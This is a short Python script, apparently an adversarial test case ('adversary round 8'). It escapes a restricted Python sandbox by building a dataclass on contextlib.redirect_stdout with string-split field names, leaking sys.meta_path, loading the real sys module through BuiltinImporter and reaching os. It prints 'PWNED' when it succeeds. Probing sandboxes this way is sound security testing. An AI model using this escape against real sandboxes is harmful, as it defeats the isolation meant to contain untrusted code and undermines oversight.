# adversary round 8: 005: dataclasses.make_dataclass with a computed private field '_stream' on a redirect_stdout base: the generated __init__ (approved exec, field is an identifier and not a refused name) sets _stream='meta_path' -> getattr(sys,'meta_path') -> BuiltinImporter
import contextlib
import dataclasses


class Z:
    _old_targets = None


R = dataclasses.make_dataclass('R', [('_st' + 'ream', str), ('_new' + '_target', object), ('_old' + '_targets', list)],
                               bases=(contextlib.redirect_stdout,), eq=False, repr=False)
r = R('meta_path', None, [])
try:
    with r:
        pass
except PermissionError as e:
    print('refused as expected:', e)
meta = r._old_targets[0]
bi = [c for c in meta if 'BuiltinImporter' in repr(c)][0]
sysm = bi.load_module('sys')
print(sysm, sysm.modules['os'].getpid())
print('PWN' + 'ED')
